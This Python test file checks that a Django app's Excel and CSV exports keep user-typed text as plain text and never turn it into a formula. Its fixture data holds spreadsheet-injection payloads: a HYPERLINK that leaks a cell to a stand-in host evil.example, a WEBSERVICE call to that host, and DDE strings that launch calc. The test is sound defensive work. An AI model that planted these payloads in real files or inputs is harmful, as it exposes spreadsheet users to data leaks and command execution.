"""Workbook injection (issue 17, item 12): no .xlsx or .csv the app writes runs a text a user typed as a formula.

Hostile strings are stored in the records (an invoice number ``=HYPERLINK(...)``, a payment reference ``=1+1+650``,
names starting with ``@``, ``+``, ``-``, a tab or a carriage return) and every export endpoint and page is walked: no
cell of any workbook is a formula, such texts are quote-prefixed text cells with their exact value, CSV cells start
with an apostrophe, and numbers (a negative balance too) stay numbers.
"""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from distributors.models import Distributor
from receivables import services as money
from reports.analytics.models import PeriodReport
from reports.analytics.period_reports import services as period_reports
from reports.models import Comment, Review
from tests import factories as f
from tests.plans import factories as pf

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
SUM = "=1+1+650"
HOSTILE = {
    "name": HYPERLINK,
    "short_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "city": "+cmd|' /C calc'!A0",
    "phone": "-2+3+cmd|' /C calc'!A0",
    "county": "\t=1+1",
    "first_name": "@王",
    "last_name": "-芳",
    "invoice": HYPERLINK[:40],
    "reference": SUM,
    "comment": '=WEBSERVICE("http://evil.example")',
    "review": "+1+1",
}


def _formula_like(text) -> bool:
    return isinstance(text, str) and text.startswith(TRIGGERS)


def _check_xlsx(content: bytes) -> set[str]:
    """Every cell of every sheet: no formula, every formula-like text quote-prefixed. Returns the texts seen."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if _formula_like(cell.value):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    return texts


def _check_csv(content: bytes) -> set[str]:
    texts = set()
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        for value in row:
            assert not _formula_like(value), value
            texts.add(value)
    return texts


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def hostile(org, cards):
    """rep_a1 named "@王 -芳"; rep_a1's account named like formulas, with an approved plan, an invoice numbered
    ``=HYPERLINK(...)``, an overpayment referenced ``=1+1+650`` (a negative balance), and weekly and monthly reports
    with a formula-like review and comment."""
    rep = org.rep_a1
    rep.first_name, rep.last_name = HOSTILE["first_name"], HOSTILE["last_name"]
    rep.save()
    account = cards.a1
    Distributor.objects.filter(pk=account.pk).update(
        name=HOSTILE["name"],
        short_name=HOSTILE["short_name"],
        city=HOSTILE["city"],
        phone=HOSTILE["phone"],
        county=HOSTILE["county"],
    )
    account.refresh_from_db()
    today = timezone.localdate()
    plan = pf.approved_plan(kam=org.kam_a1, manager=org.rm_a, distributor=account)
    money.record_invoice(
        distributor=account, number=HOSTILE["invoice"], issue_date=today, amount=Decimal("100.00"),
        by=org.finance, payment_terms_days=30,
    )  # fmt: skip
    money.record_payment(
        distributor=account, amount=Decimal("250.00"), paid_on=today, method="bank_transfer",
        reference=HOSTILE["reference"], by=org.finance,
    )  # fmt: skip
    reports = period_reports.generate(today=today)
    for report in reports:
        Comment.objects.create(target=report, author=org.kam_a1, text=HOSTILE["comment"])
    for kind, period in period_reports.closed_periods(today):
        Review.objects.create(rep=rep, kind=kind, period_start=period.start, text=HOSTILE["review"])
    return account, plan, PeriodReport.objects.filter(rep=rep), PeriodReport.objects.filter(team=org.team_a1)


def test_every_export_keeps_hostile_texts_as_text(org, hostile, client_for, api_for):
    account, plan, rep_reports, team_reports = hostile
    page, api = client_for(org.admin), api_for(org.admin)
    today = timezone.localdate().isoformat()
    xlsx_urls = [
        (page, "/distributors/export.xlsx"),
        (api, "/api/distributors/export/?format_type=xlsx"),
        (page, f"/plans/export.xlsx?period={plan.period_label}"),
        (page, f"/plans/{plan.pk}/plan.xlsx"),
        (api, "/api/plans/export/"),
        (page, f"/receivables/accounts/{account.pk}/statement.xlsx?start={today}&end={today}"),
        (api, f"/api/statements/{account.pk}/?format_type=xlsx&from={today}&to={today}"),
    ]
    for report in [*rep_reports, *team_reports]:
        xlsx_urls.append((page, f"/period-reports/{report.pk}/report.xlsx"))
        xlsx_urls.append((api, f"/api/period-reports/{report.pk}/xlsx/"))
    assert rep_reports and team_reports
    seen = set()
    for client, url in xlsx_urls:
        response = client.get(url)
        assert response.status_code == 200, url
        seen |= _check_xlsx(_body(response))
    for key in ("name", "short_name", "city", "phone", "county", "invoice", "reference", "comment", "review"):
        assert HOSTILE[key] in seen, key  # the exact text, as text
    assert any(text.startswith((HOSTILE["first_name"], HOSTILE["last_name"])) for text in seen)  # the rep's name

    for client, url in ((page, "/distributors/export.csv"), (api, "/api/distributors/export/?format_type=csv")):
        response = client.get(url)
        assert response.status_code == 200, url
        texts = _check_csv(_body(response))
        for key in ("name", "short_name", "city", "phone", "county"):
            assert f"'{HOSTILE[key]}" in texts, (url, key)


def test_a_negative_balance_stays_a_number_in_the_statement(org, hostile, client_for):
    account = hostile[0]
    today = timezone.localdate().isoformat()
    response = client_for(org.finance).get(
        f"/receivables/accounts/{account.pk}/statement.xlsx?start={today}&end={today}"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value == Decimal("-150") or cell.value == -150]
    assert values and all(cell.data_type == "n" for cell in values)


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    trigger=st.sampled_from(TRIGGERS),
    rest=st.text(alphabet=st.characters(exclude_categories=("Cs", "Cc")), min_size=0, max_size=30),
)
def test_any_text_starting_like_a_formula_stays_text_in_the_card_exports(org, client_for, trigger, rest):
    name = (trigger + rest)[:200]
    account = f.DistributorFactory(owner=org.rep_b1)
    Distributor.objects.filter(pk=account.pk).update(name=name)
    client = client_for(org.rep_b1)
    xml_text = name.replace("\r\n", "\n").replace("\r", "\n")  # XML itself reads a carriage return as a newline
    assert xml_text in _check_xlsx(client.get("/distributors/export.xlsx").content)
    assert f"'{name}" in _check_csv(_body(client.get("/distributors/export.csv")))
